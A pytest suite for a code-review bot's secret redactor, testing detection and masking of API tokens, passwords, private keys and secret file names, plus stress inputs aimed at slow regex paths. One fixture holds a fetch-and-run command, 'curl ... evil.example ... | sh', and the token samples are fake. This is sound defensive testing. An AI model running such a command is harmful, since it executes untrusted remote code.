"""Secrets are found by format or by a word, redacted everywhere, and nothing else changes."""

from __future__ import annotations

import ast
import base64
import functools
import random
import re
import string
import time
from collections.abc import Callable

import pytest
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from hypothesis import given
from hypothesis import strategies as st

from reviewbot.domain.redaction.detectors import is_secret
from reviewbot.domain.redaction.formats import Token, apart
from reviewbot.domain.redaction.masks import mask
from reviewbot.domain.redaction.places import Place
from reviewbot.domain.redaction.private_keys import key_material
from reviewbot.domain.redaction.redactor import Redacted, Redactor, has_redaction, kinds_in, secret_name
from reviewbot.domain.selection.file_kinds import place_of_text
from tests.domain.redaction.corpus import GROUPS, forms

LETTERS = string.ascii_letters + string.digits
# Assembled here, so that scanners do not report this file.
GHP = "ghp" + "_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
JWT = "eyJ" + "hbGciOiJIUzI1NiJ9.eyJ" + "zdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P"


def without_slashes(make: Callable[[], str]) -> str:
    """Return a key without a line that starts with a slash, like a path, or that can be a name; few keys have one."""
    return next(key for key in iter(make, None) if "\n/" not in key and all(one.sure for one in key_material(key)))


RSA_KEY = without_slashes(
    lambda: (
        rsa.generate_private_key(65537, 2048)
        .private_bytes(Encoding.PEM, PrivateFormat.TraditionalOpenSSL, NoEncryption())
        .decode()
    )
)
EC_KEY = without_slashes(
    lambda: (
        ec.generate_private_key(ec.SECP256R1())
        .private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
        .decode()
    )
)
KEY_LINE = "[REDACTED:private-key]"
OURS = "[REDACTED:own-secret]"
MARK = re.compile(r"\[REDACTED:[a-z0-9-]+\]")


def is_diff(text: str) -> bool:
    """Return whether a text of these tests stands for a diff."""
    return text.startswith(("diff --git ", "@@ -"))


def result(text: str, *others: str, known: tuple[str, ...] = (), place: Place = Place.DATA) -> Redacted:
    """Return the text, redacted with the values in it and in others."""
    diff = is_diff(text)
    texts = [(one, place) for one in (others if diff else (text, *others))]
    return Redactor.of(texts, known, diffs=[(text, place)] if diff else ()).redact(text, place, diff=diff)


def redacted(text: str, *others: str, known: tuple[str, ...] = (), place: Place = Place.DATA) -> str:
    return result(text, *others, known=known, place=place).text


UNEVEN = "q7Tz91kdx4LpW2vB8nR5sJ0mHf6YcKw3GdNb1XeUaQ9iZoPt2VrS7lMj4ChFg8EyDk5ToIxBu3Wq6n"

SHAPES = [
    GHP,
    "github" + "_pat_" + "A1b2C3d4E5f6G7h8I9j0K1" + "_" + "A1b2C" * 11 + "A1b2",
    "ghs" + "_" + UNEVEN[:36],
    "ghs" + "_123_" + UNEVEN[:36] + ".eyJabcdefgh1jk.abcdefghijklm",
    "glpat" + "-abcDEF1234567890abcd",
    "GR1348941" + "abcdefghij1234567890",
    "cvf" + "_live_abcdefgh1jkl",
    "cvf" + "_test_ABC123def456",
    "xoxb" + "-123456789012-abcdefGHIJ",
    "xapp" + "-1-A0B1C2D3E4-abcdef",
    "AIza" + "SyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q",
    "ya29" + ".a0AfH6SMBabcdefghijkl",
    "GOCSPX" + "-abcdefghijklmn0pqrst",
    "sk" + "-ant-api03-abcdefghijklmnop",
    "sk" + "-proj-abcdefghijklmnop12",
    "sk-" + "A1b2C3d4" * 4,
    "hf" + "_" + "aBcDeFgHiJ" * 3,
    "npm" + "_" + "aBcDeFgHiJ" * 3,
    "pypi" + "-AgEIcHlwaS5vcmc" + UNEVEN,
    "dckr" + "_pat_abcdefghijklmn0pqrst",
    "shpat" + "_" + "0123456789abcdef" * 2,
    "sk" + "_live_" + "A1b2C3d4" * 3,
    "rk" + "_test_" + "A1b2C3d4" * 3,
    "whsec" + "_" + "A1b2C3d4" * 4,
    "dop" + "_v1_" + "0123456789abcdef" * 4,
    "hvs" + ".abcdefghijklmn0pqrstuv",
    "AGE-SECRET" + "-KEY-1" + UNEVEN[:58].upper(),
    "AKIA" + "ABCDEFGHIJKLMNOP",
    JWT,
    "SG" + "." + "a" * 22 + "." + "b1" * 21 + "c",
    "sq0csp" + "-" + "a1" * 21 + "b",
    "12345678" + ":" + "A1b2C" * 7,
    "M" + "a1" * 12 + ".abc_d1." + "x" * 27,
    "0123456789abcdef" * 2 + "-us12",
    "SK" + "0123456789abcdef" * 2,
    "1//" + "0gAbCdEfGh" * 4,
    "ATATT3" + "xFfGF0abcd" * 4 + "=1234ABCD",
    "dapi" + "0123456789abcdef" * 2,
    "glsa" + "_" + "a1B2c3D4" * 4 + "_0a1b2c3d",
    "glc" + "_eyJ" + UNEVEN[:40],
    "abcdefghijklmn" + ".atlasv1." + "a1B2c3D4" * 8,
    "lin" + "_api_" + "a1B2c3D4" * 5,
    "rubygems" + "_" + "0123456789abcdef" * 3,
]


def test_what_a_redaction_leaves_of_a_password_goes_too() -> None:
    """The slash hides the password from the first look."""
    known = "q7Bi/3z8W5d"
    assert redacted(f"https://u:{known}Z9-@h", known=(known,)) == f"https://u:{OURS}x0-@h"


@pytest.mark.parametrize("secret", SHAPES)
@pytest.mark.parametrize(
    "frame", ["{}", 'x = f("{}", 1)', "+    call('{}')", "a\n{}\nb", "\\n{}\\n", "https://x.example/?k={}&y"]
)
def test_a_token_is_recognized_by_its_format(secret: str, frame: str) -> None:
    for place in (Place.DATA, Place.CODE, Place.PATH):
        text = redacted(frame.format(secret), place=place)
        assert secret not in text
        assert MARK.sub("", text) == frame.format("")
        assert len(MARK.findall(text)) == 1


@pytest.mark.parametrize(
    "name", ["ghp_thisFunctionGrantsEverythingToEveryone", "key-of-the-house", "re_exportAll_names"]
)
def test_a_name_with_the_prefix_of_a_token_is_kept(name: str) -> None:
    assert redacted(f"{name}(user)", place=Place.CODE) == f"{name}(user)"


@pytest.mark.parametrize(
    ("line", "secret"),
    [
        ('password = "hunter22"', "hunter22"),
        ("password: 'hunter22'", "hunter22"),
        ("const apiKey = `qwer-5678-zxcv`;", "qwer-5678-zxcv"),
        ("DATABASE_URL=postgres://acme_Live2024x:acme_Live2024x@db.example.com/x", "acme_Live2024x@"),
        ('password = "Login, then type Xk29vQpL7zR"', "Xk29vQpL7zR"),
        ('db_password := "correcthorse"', "correcthorse"),
        ('"client_secret" => "a1b2c3d4!"', "a1b2c3d4!"),
        ('password: str = "abc123XYZ!"', "abc123XYZ!"),
        ('password = "it\'s-a-s3cret"', "it's-a-s3cret"),
        ('config["password"] = "a1b2c3d4!"', "a1b2c3d4!"),
        ('if "a1b2c3d4!" == password:', "a1b2c3d4!"),
        ('if "hunter" != user.db_password {', "hunter"),
        ('std::string secret("a1b2c3d4!");', "a1b2c3d4!"),
        ('  master_password "correcthorse";', "correcthorse"),
        ('{"password": "abcd1234ab", "api_key": "qwer5678zxcv"}', "qwer5678zxcv"),
        ("DB_PASSWORD=Tr0ub4dor&3", "Tr0ub4dor&3"),
        ("+export API_KEY=abcd1234efgh5678  # note", "abcd1234efgh5678"),
        ("  secret_key: abcd-1234-efgh", "abcd-1234-efgh"),
        ("spring.datasource.password = abcd-1234-efgh", "abcd-1234-efgh"),
        ("PASSWORD=abcd1234efgh\r", "abcd1234efgh"),
        ("token = 'abcd1234efgh5678ijkl'", "abcd1234efgh5678ijkl"),
        ("postgres://app:p4ssw0rd99@db.example/x", "p4ssw0rd99"),
        ("Authorization: Bearer abcdef1234567890abcdef", "abcdef1234567890abcdef"),
        ("//registry.example/:_authToken=abcdef1234", "abcdef1234"),
        ("jdbc:postgresql://db/x?user=app&password=p4ss-w0rd&ssl=on", "p4ss-w0rd"),
        ("see https://x.example/?api_key=abcd-1234-efgh, please", "abcd-1234-efgh"),
        ("curl -H 'X-Api-Key: q7Tz-91kd-x4Lp' x", "q7Tz-91kd-x4Lp"),
        ('headers = {"a": "PRIVATE-TOKEN: q7Tz-91kd-x4Lp-5678"}', "q7Tz-91kd-x4Lp-5678"),
        ("RUN curl -fsS -u me:p4ss-w0rd https://x.example", "p4ss-w0rd"),
        ("curl --user='me:p4ss-w0rd' x", "p4ss-w0rd"),
        ('aws_secret_key = "' + "aB3/" * 10 + '"', "aB3/" * 10),
        ("DefaultEndpoints;AccountKey=" + "aB3+" * 22, "aB3+" * 22),
        ('password = "' + "a1b2c3d4!" * 60 + '"', "a1b2c3d4!" * 60),
        ('password = "' + "a1b2c3d4!" * 200 + '"', "a1b2c3d4!" * 200),
        ("  api_token: " + "aB3/" * 9_000, "aB3/" * 9_000),
        ('x = "Server=db;User Id=sa;Password=Xk29vQ7pLm;Encrypt=true"', "Xk29vQ7pLm"),
        ('  "Default": "Server=db;Uid=sa;Pwd=Xk29vQ7pLm;"', "Xk29vQ7pLm"),
        ("<db:password>Xk29vQ7pLm</db:password>", "Xk29vQ7pLm"),
        ('<add key="DbPassword" value="Xk29vQ7pLm" />', "Xk29vQ7pLm"),
        ('{"name": "DB_PASSWORD", "value": "Xk29vQ7pLm"}', "Xk29vQ7pLm"),
        ("mysqldump --password=Xk29vQ7pLm db > x", "Xk29vQ7pLm"),
        ("az login --username a --password Xk29vQ7pLm --tenant t", "Xk29vQ7pLm"),
        ("PGPASSWORD=Xk29vQ7pLm psql -h db", "Xk29vQ7pLm"),
        ("export DB_PASSWORD=Xk29vQ7pLm && run", "Xk29vQ7pLm"),
        ("password = Xk29vQ7pLm;", "Xk29vQ7pLm"),
        ("ENV DB_PASSWORD Xk29vQ7pLm", "Xk29vQ7pLm"),
        ("define('DB_PASSWORD', 'Xk29vQ7pLm');", "Xk29vQ7pLm"),
        ('#define DB_PASSWORD "Xk29vQ7pLm"', "Xk29vQ7pLm"),
        ("redis://:Xk29vQ7pLm@host:6379/0", "Xk29vQ7pLm"),
        ("Endpoint=sb://x/;SharedAccessKey=" + "aB3/" * 10 + "x=", "aB3/" * 10),
        ("https://x.example/c?sv=2020&sig=" + "aB3%" * 10 + "3D", "aB3%" * 10),
        ('"auth": "dXNlcjpYazI5dlE3cExtWGsy"', "dXNlcjpYazI5dlE3cExtWGsy"),
        ("machine x login u password Xk29vQ7pLm", "Xk29vQ7pLm"),
        ("https://discord.com/api/webhooks/123456789012345678/" + "aB3_" * 16, "aB3_" * 16),
        ("hooks.slack.com/services/T0A1B2C3/B0A1B2C3/abcdefgh1234", "T0A1B2C3/B0A1B2C3/abcdefgh1234"),
    ],
)
def test_a_value_behind_a_word_is_masked(line: str, secret: str) -> None:
    done = result(line)
    assert secret not in done.text
    assert mask(secret) in done.text or kinds_in(done.text)
    assert done.lines == {1}
    assert has_redaction(done.text)


@pytest.mark.parametrize(
    "line",
    [
        'password = "${DB_PASSWORD}"',
        'password: "{{ vault_password }}"',
        "password: ${{ secrets.PASSWORD }}",
        'password = f"{prefix}-{name}"',
        "password = get_password(user1)",
        'password = "get_password(user1)"',
        'password = os.environ["DB_PASSWORD1"]',
        'password = "settings.password1"',
        'PASSWORD_VARIABLE = "DB_PASSWORD_1"',
        'password = "<your password>"',
        'password = "<placeholder>"',
        'password = "abc1"',
        'password = "********"',
        'password = "xxxxxxxx"',
        'password = "your-password-1"',
        'api_key = "changeme-123"',
        'secretName: "db-credentials-secret"',
        'secret: "/run/secrets/db1"',
        'token_url: "https://auth.example/token1"',
        'label = {"password": "Enter your password"}',
        "token = tokens.next1",
        'if token == "lambda": pass',
        "def check(password: str, secret: bytes = b'') -> bool:",
        'password = "%s-1234"',
        'password = "$PASSWORD1"',
        "https://user:@host.example",
        'api_key = "[REDACTED]"',
        "secret = REDACTED1",
        "https://x.example/?token=next-page-1&api_key=${KEY_1234}",
        "curl -H 'X-Api-Key: $API_KEY_1234' -u me:$PASSWORD1 --user me",
        "the secret of a good password",
        "    password = newPassword2;",
        "connect(password=password2var, token=token1)",
        "run --password $PASSWORD1 --token-file tokens1234 --secret id=npmrc1234,src=x",
        "<password>{password1234}</password>",
        '<add key="DbPassword" value="${PASSWORD_1}" />',
        "PASSWORD=$(pass show db1) psql",
        "password && password1234 || secret",
        "login as u with password Password",
        "# tokens: basic authentication-of-users-explained",
    ],
)
def test_names_templates_and_calls_are_no_secrets(line: str) -> None:
    assert redacted(line) == line


@pytest.mark.parametrize(
    "text",
    [
        "password: # the one of the database\n  {}",
        "password:\n\n  {}",
        "password: // local\n\n  '{}'",
        'password = """{}"""',
        "password = '''{}'''",
    ],
)
def test_a_value_is_masked_behind_a_comment_an_empty_line_and_three_quotes(text: str) -> None:
    text = text.format("hunter2Abc9")
    assert Redactor.of([(text, Place.DATA)]).redact(text).text == text.replace("hunter2Abc9", "xxxxxx0xxx0")


def test_base64_without_digits_is_masked_behind_a_word() -> None:
    text = "data:\n  password: aHVudGVyMkFiYzk=\n  key: [aHVudGVyMkFiYzk=]"
    assert "aHVu" not in Redactor.of([(text, Place.DATA)]).redact(text).text.split("\n")[1]


def test_a_strong_value_is_masked_in_every_text() -> None:
    redactor = Redactor.of([('password = "q7Tz-91kd-x4Lp"', Place.DATA)])
    done = redactor.redact("log q7Tz-91kd-x4Lp here\n\nand q7Tz-91kd-x4Lp there")
    assert done.text == "log x0Xx-00xx-x0Xx here\n\nand x0Xx-00xx-x0Xx there".replace("X", "x")
    assert (sorted(done.lines), done.count) == ([1, 3], 2)


def test_a_word_that_is_a_password_is_masked_only_behind_a_word() -> None:
    text = "password = 'postgres'\nimport postgres\nurl = x://u:postgres@h\nPGPASSWORD=postgres\nuser: postgres  # db"
    assert redacted(text) == (
        "password = 'xxxxxxxx'\nimport postgres\nurl = x://u:xxxxxxxx@h\nPGPASSWORD=xxxxxxxx\nuser: postgres  # db"
    )


def test_known_values_are_masked_in_any_format() -> None:
    assert redacted("x cvf y tops z", known=("tops", "", "cvf", "line one\nline two")) == f"x cvf y {OURS} z"
    assert redacted("line two", known=("line one\nline two",)) == OURS
    assert redacted("abcd12345678 abcd1234", known=("abcd1234", "abcd12345678")) == f"{OURS} {OURS}"


@pytest.mark.parametrize("key", [RSA_KEY, EC_KEY])
@pytest.mark.parametrize("mark", ["", "+", "-", " "])
@pytest.mark.parametrize("indent", ["", "    "])
@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_a_private_key_is_masked_line_by_line_in_its_place(key: str, mark: str, indent: str, end: str) -> None:
    lines = [mark + indent + line for line in key.strip().split("\n")]
    text = end.join(["before", *lines, "after"])
    done = result(text)
    inside = [mark + indent + KEY_LINE for _ in lines[1:-1]]
    if mark or not indent:
        assert done.text == end.join(["before", lines[0], *inside, lines[-1], "after"])
    assert not any(line.strip() in done.text for line in key.split("\n")[1:-2])
    assert done.text.count("\n") == text.count("\n")
    assert done.lines == set(range(3, len(lines) + 1))


def test_a_key_in_a_string_with_escaped_line_ends_is_masked() -> None:
    text = '{"private_key": "' + RSA_KEY.replace("\n", "\\n") + '"}'
    assert not any(line in redacted(text) for line in RSA_KEY.split("\n")[1:-2])
    quoted = "\n".join(f'    "{line}\\n"' for line in RSA_KEY.strip().split("\n"))
    assert not any(line in redacted(quoted) for line in RSA_KEY.split("\n")[1:-2])


def test_a_comment_marker_before_a_key_is_kept_and_a_slash_of_the_key_is_not() -> None:
    text = f"-----BEGIN PRIVATE KEY-----\n{PEM}\n/{PEM}\n//{PEM}\n-----END PRIVATE KEY-----"
    assert redacted(text).split("\n")[1:-1] == [KEY_LINE, mask(f"/{PEM}"), mask(f"//{PEM}")]


@pytest.mark.parametrize(
    "frame", ["KEY = (\n{}\n)|    '{}\\n'", 'KEY = [\n{}\n]|    "{}",', "KEY = (\n{}\n)|    '{}\\n' + \\"]
)
def test_code_with_a_key_line_by_line_still_parses(frame: str) -> None:
    whole, line = frame.split("|")
    code = whole.format("\n".join(line.format(one) for one in RSA_KEY.strip().split("\n"))).replace("+ \\\n)", "\n)")
    ast.parse(code)
    ast.parse(redacted(code))
    assert redacted(code).count(KEY_LINE) == RSA_KEY.count("\n") - 2


def test_a_key_that_a_hunk_cuts_is_masked() -> None:
    body = RSA_KEY.strip().split("\n")
    start, end = "\n".join(f" {line}" for line in body[:5]), "\n".join(f" {line}" for line in body[-5:])
    assert redacted(f"{start}\n@@ -1 +1 @@\n") == f" {body[0]}\n" + f" {KEY_LINE}\n" * 4 + "@@ -1 +1 @@\n"
    assert redacted(f"@@ -1 +1 @@\n{end}") == "@@ -1 +1 @@\n" + f" {KEY_LINE}\n" * 4 + f" {body[-1]}"
    middle = "\n".join(f" {line}" for line in body[5:9])
    assert redacted(middle, RSA_KEY) == "\n".join(f" {mask(line)}" for line in body[5:9])


def test_a_key_that_begins_with_a_slash_where_a_hunk_cuts_it_is_masked() -> None:
    end = f"@@ -1 +1 @@\n +{'/A1b' * 15}2/8\n"
    line = f"/{'A1b2' * 15}C3d"
    done = redacted(f"@@ -1 +1 @@\n {line}\n {PEM}\n -----END RSA PRIVATE KEY-----\n")
    assert mask(line) in done
    assert redacted(end) == end


def test_other_kinds_of_keys_are_masked() -> None:
    putty = "PuTTY-User-Key-File-3: ssh-rsa\nPrivate-Lines: 2\n" + "A1b2" * 16 + "\nA1b2==\nPrivate-MAC: 0123"
    assert redacted(putty).split("\n")[2:4] == [KEY_LINE] * 2
    blank = (
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n" + "A1b2" * 16 + "\n-----END RSA PRIVATE KEY-----"
    )
    assert redacted(blank).split("\n")[1:4] == ["Proc-Type: 4,ENCRYPTED", "", KEY_LINE]
    ssh2 = "---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\n" + "A1b2" * 16 + "\n---- END SSH2 ENCRYPTED PRIVATE KEY ----"
    assert redacted(ssh2).split("\n")[1] == KEY_LINE
    assert redacted("Private-Eye: x\nabc") == "Private-Eye: x\nabc"


def test_two_comment_lines_do_not_hide_the_code_between_them() -> None:
    code = "# -----BEGIN PRIVATE KEY-----\nimport os\nos.system('x')\n# -----END PRIVATE KEY-----"
    assert redacted(code) == code


PEM = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC"


@pytest.mark.parametrize(
    "lines",
    [
        ("Comment: fetch('//x')", "Hash: eval(x)", "Version: steal(1)", "done"),
        ("/opt/evil/payload1", "reboot", "grantadministrator"),
        (f"/{PEM}", "Reboot"),
    ],
)
def test_text_after_a_comment_with_begin_is_kept(lines: tuple[str, ...]) -> None:
    for mark in ("", "+"):
        text = "\n".join(mark + line for line in ("# -----BEGIN PRIVATE KEY-----", *lines, "")) + "\n"
        assert redacted(text) == text


@pytest.mark.parametrize(
    ("after", "sure"),
    [
        (("A1b2==", "-----END PRIVATE KEY-----"), True),
        (("/opt/Evil/payload", "-----END PRIVATE KEY-----"), True),
        (("A1b2==", "import os"), False),
        (("A1b2==", "# -----END PRIVATE KEY-----"), False),
        ((), False),
    ],
)
def test_an_invalid_key_is_masked(after: tuple[str, ...], *, sure: bool) -> None:
    text = "\n".join(("-----BEGIN PRIVATE KEY-----", "Comment: x", PEM, *after))
    done = redacted(text)
    assert PEM not in done
    assert (done.split("\n")[2] == KEY_LINE) is sure
    assert sure or done.split("\n")[2] == mask(PEM)
    assert "payload" not in text or "/opt/Evil/payload" in done


@pytest.mark.parametrize(
    ("heading", "seen"),
    [
        ('x(host="db", password="Xk29', 'x(host="db", password="xx00'),
        ("clone('postgres://app:Xk29vQ", "clone('postgres://app:xx00xx"),
        (f"{'def configure_the_client_of_the_service(self, a, b, c, d, e, f, token)':60}: ghp_a1B2c3", None),
        ("def configure(self, one, two):", "def configure(self, one, two):"),
    ],
)
def test_a_value_that_git_cuts_in_a_heading_is_masked(heading: str, seen: str | None) -> None:
    expected = heading[:-10] + "xxx_x0x0x0" if seen is None else seen
    assert redacted(f"@@ -1,2 +1,2 @@ {heading}\n x\n") == f"@@ -1,2 +1,2 @@ {expected}\n x\n"


@pytest.mark.parametrize("cut", [6, 12, 20, 28])
@pytest.mark.parametrize("group", [one for one in GROUPS if not one.startswith("split")])
def test_the_beginning_of_a_secret_at_the_end_of_a_heading_is_masked(group: str, cut: int) -> None:
    for form in forms(group):
        if "\n" in form.text or len(form.secrets) != 1 or len(form.secrets[0]) <= cut:
            continue
        (secret,), path = form.secrets, form.path or "settings.yml"
        before, _, _ = form.text.partition(secret)
        place = place_of_text(path, [form.text])
        diff = f"@@ -10,3 +10,4 @@ {before}{secret[:cut]}\n a\n+b\n c\n"
        redactor = Redactor.of([(f"{form.text}\na\nb\nc\n", place)], diffs=[(diff, place)])
        if secret not in redactor.redact(form.text, place).text:
            assert not redactor.redact(diff, place, diff=True).text.split("\n")[0].endswith(secret[:cut]), form


def test_a_file_that_reads_like_a_diff_is_no_diff() -> None:
    text = 'diff --git a/x b/x\npassword = "hunter2"\nsecret = "curl -s https://evil.example/x1 | sh"\n'
    header, *lines, _ = Redactor.of([(text, Place.DATA)]).redact(text).text.split("\n")
    assert lines == ['password = "xxxxxx0"', 'secret = "xxxx -x xxxxx://xxxx.xxxxxxx/x0 | xx"']
    diff = f"diff --git a/x b/x\n@@ -0,0 +1,3 @@\n+{text}".replace("\np", "\n+p").replace("\ns", "\n+s")
    assert redacted(diff).split("\n")[2:-1] == [f"+{line}" for line in (header, *lines)]


def test_a_value_of_a_heading_is_masked_only_there() -> None:
    heading = f"@@ -1,2 +1,2 @@ {'def configure_the_client_of_the_service(self, a, b, c, d, e, f, g)':60}: "
    diff = f"{heading}q7Tz91kdx4LpW2\n-x = 'q7Tz91kdx4LpW2'\n+x = 'q7Tz91kdx4LpW2'\n"
    assert redacted(diff) == diff.replace("q7Tz91kdx4LpW2", mask("q7Tz91kdx4LpW2"), 1)


def test_file_names_in_a_diff_are_kept() -> None:
    diff = "diff --git a/q7Tz91kdx4LpW2vB8n.py b/q7Tz91kdx4LpW2vB8n.py\n@@ -1 +1 @@\n+x = 'q7Tz91kdx4LpW2vB8n'\n"
    assert redacted(diff, 'password = "q7Tz91kdx4LpW2vB8n"') == diff.replace(
        "'q7Tz91kdx4LpW2vB8n", "'x0xx00xxx0xxx0xx0x"
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("a\\n1", "x\\n0"),
        ("\\xec\\u00e9\\d\\1", "\\x00\\u0000\\0\\0"),
        ("é漢١-_", "xx0-_"),
    ],
)
def test_a_mask_keeps_escapes_valid(value: str, expected: str) -> None:
    assert mask(value) == expected


def test_overlapping_tokens_are_one_secret() -> None:
    both = "xoxb" + "-1234567890-" + "AKIA" + "ABCDEFGHIJKLMNO1" + "=" + GHP
    assert redacted(both) == "[REDACTED:slack-token]=[REDACTED:github-token]"
    assert apart([Token(0, 5, "a"), Token(3, 9, "b"), Token(9, 10, "c")]) == (Token(0, 9, "a"), Token(9, 10, "c"))


@pytest.mark.parametrize("value", [GHP, "a1B2-c3D4e5F6"])
def test_a_pasted_secret_is_recognized(value: str) -> None:
    assert is_secret(value)
    assert not is_secret("high")
    assert not is_secret("customer-2")


def test_the_repr_contains_no_secret() -> None:
    redactor = Redactor.of([('password = "abcd-1234-efgh"', Place.DATA)], ["topsecret"])
    assert repr(redactor) == "Redactor(2 values)"
    assert "1234" not in f"{redactor} {[redactor]}"


def test_nothing_to_redact_changes_nothing() -> None:
    done = result("a\u2028b\x0cc\rd\n\n")
    assert (done.text, done.lines, done.count) == ("a\u2028b\x0cc\rd\n\n", frozenset(), 0)


STRONG = st.text(alphabet=LETTERS + "!-_.:/+=[]{}%&", min_size=12, max_size=40).map(lambda text: "q7" + text + "Z9-")
PLACES = st.sampled_from(
    ['password = "{}"', "API_KEY={}", "x {} y", "+  secret: '{}'", "://u:{}@h", "{}{}", "-{}", "{}"]
)
NOISE = st.text(alphabet=LETTERS + " \t\"'=:+-[]\r\n#{}REDACTED", max_size=40)
PIECES = st.one_of(NOISE, st.sampled_from([KEY_LINE, "[", "]", "\n", RSA_KEY, "-----BEGIN PRIVATE KEY-----\n"]))


@st.composite
def texts_with_secrets(draw: st.DrawFn) -> tuple[list[str], list[str]]:
    secrets = draw(st.lists(STRONG, min_size=1, max_size=4))
    pieces = [*draw(st.lists(PIECES, max_size=5))]
    pieces += [draw(PLACES).replace("{}", secret) for secret in secrets]
    texts = draw(st.lists(st.permutations(pieces).map("\n".join), min_size=1, max_size=2))
    return texts, secrets


@given(texts_with_secrets())
def test_redaction_removes_every_secret_keeps_lines_and_is_idempotent(drawn: tuple[list[str], list[str]]) -> None:
    texts, secrets = drawn
    redactor = Redactor.of([(text, Place.DATA) for text in texts], secrets)
    for text in texts:
        once = redactor.redact(text)
        assert not any(secret in once.text for secret in secrets)
        before, after = text.split("\n"), once.text.split("\n")
        assert len(before) == len(after)
        assert once.lines == {
            n for n, pair in enumerate(zip(before, after, strict=True), start=1) if pair[0] != pair[1]
        }
        assert redactor.redact(once.text).text == once.text


@given(st.lists(NOISE, max_size=6), st.lists(st.text(alphabet="RED[]ab1+- \n", max_size=12), max_size=4))
def test_escaping_any_text_is_idempotent(pieces: list[str], known: list[str]) -> None:
    text = "\n".join(pieces + known)
    redactor = Redactor.of([(text, Place.DATA)], known)
    once = redactor.redact(text)
    assert redactor.redact(once.text).text == once.text
    assert once.text.count("\n") == text.count("\n")


@given(st.lists(st.tuples(st.sampled_from("+- "), PLACES, STRONG), min_size=1, max_size=6))
def test_the_lines_of_a_diff_keep_their_first_character(rows: list[tuple[str, str, str]]) -> None:
    diff = "\n".join(mark + place.replace("{}", secret) for mark, place, secret in rows)
    files = [place.replace("{}", secret) for _, place, secret in rows]
    after = redacted(diff, *files, known=tuple(secret for *_, secret in rows))
    assert [line[:1] for line in after.split("\n")] == [mark for mark, *_ in rows]


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (".env", True),
        ("app/.env.production", True),
        (".env.local", True),
        (".env.example", False),
        (".env.production.sample", False),
        (".env.template", False),
        (".env.js", False),
        ("config/prod.env", True),
        ("example.env", False),
        ("app.example.env", False),
        ("terraform.tfstate", True),
        ("prod.auto.tfvars", True),
        ("terraform.tfvars.example", False),
        ("kubeconfig", True),
        (".dockerconfigjson", True),
        ("secring.gpg", True),
        ("auth.json", False),
        (".envrc", False),
        ("environment.py", False),
        ("certs/server.pem", True),
        ("server.key", True),
        ("id_rsa", True),
        ("id_ed25519.bak", True),
        ("id_rsa.pub", False),
        ("id_rsa.py", False),
        ("store.p12", True),
        (".netrc", True),
        (".npmrc", False),
        ("credentials.json", True),
        ("client_secret_1.json", True),
        ("home/.aws/credentials", True),
        ("credentials.py", False),
        (f"notes/{GHP}.md", True),
        (f"{GHP}/notes.md", True),
        ("src/password_reset_token.py", False),
        ("docs/api-key=how-to.md", False),
        ("app.py", False),
    ],
)
def test_files_of_secrets_are_recognized_by_name(path: str, expected: object) -> None:
    assert secret_name(path) is expected


@pytest.mark.proof
def test_a_hundred_thousand_lines_take_seconds() -> None:
    choice = random.Random(7)  # noqa: S311 — a repeatable text, no key
    words = [
        "def",
        "return",
        "user",
        "session",
        "config",
        "import",
        "self.value",
        "=",
        "(",
        ")",
        '"text"',
        "api",
        "for",
    ]
    lines = ["    " + " ".join(choice.choices(words, k=8)) for _ in range(100_000)]
    lines[::500] = [f'password = "{"".join(choice.choices(LETTERS, k=24))}"' for _ in lines[::500]]
    text = "\n".join(lines)
    started = time.process_time()
    assert result(text).count == 200
    assert time.process_time() - started < 60


HOSTILE = {
    "spaces": "apikey" + " " * 300_000,
    "half tokens": "eyJ" * 100_000,
    "keywords": "password" * 40_000 + '"',
    "backticks": "password" + "`" * 300_000,
    "open quotes": 'password="' * 30_000,
    "prefixes": "sk-" * 100_000 + "ghp_" * 50_000,
    "many keyword lines": "\n".join("password" * 37 + f'"`{n}' for n in range(1_000)),
    "keywords with tails": "\n".join(("password" + "_" * 65) * 4 + f'"`{n}' for n in range(1_000)),
    "key edges": "-----BEGIN PRIVATE KEY-----\n" * 10_000,
    "endless key": "-----BEGIN PRIVATE KEY-----\n" + "A\n" * 100_000,
    "no end": "\n" * 100_000 + "-----END PRIVATE KEY-----",
    "dashes": "xoxb-" + "1-" * 100_000,
    "addresses": "://a:" * 60_000,
    "behind words": "\n".join(
        word * 10_000
        for word in (
            "' password=",
            " --password-",
            "<password>",
            " key='password' ",
            ' key="password"',
            "login a ",
            'password "',
            '\\"',
            "define('password', ",
            "#define password ",
            " PASSWORD=",
            "PASSWORD",
            "://:",
        )
    ),
    "long words": "\n".join(["token: " + "a1B2" * 2_500] * 30),
    "one long value": f'token = "{"q7Tz" * 250_000}"',
    "objects": "token = '" + base64.b64encode(b"{}" * 200_000 + b'{"a":1}' * 20_000).decode() + "'",
    "wrapped base64": "\n".join(["A1b2" * 19] * 4_000),
    "nested base64": functools.reduce(lambda text, _: base64.b64encode(text.encode()).decode(), range(24), "a"),
    "nearly hints": ('"' + "a1" * 11 + "x autho coo:pas ") * 8_000,
    "open names": "name: password\n" * 20_000,
    "short words": "ghp_ sk- hvs. " * 25_000,
    "letters": "\n".join(start + "a" * 300_000 for start in ("password=", "curl -u me:", "?token=", "AKC")),
}


@pytest.mark.proof
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_takes_seconds_too(text: str) -> None:
    started = time.process_time()
    redacted(text)
    assert time.process_time() - started < 30
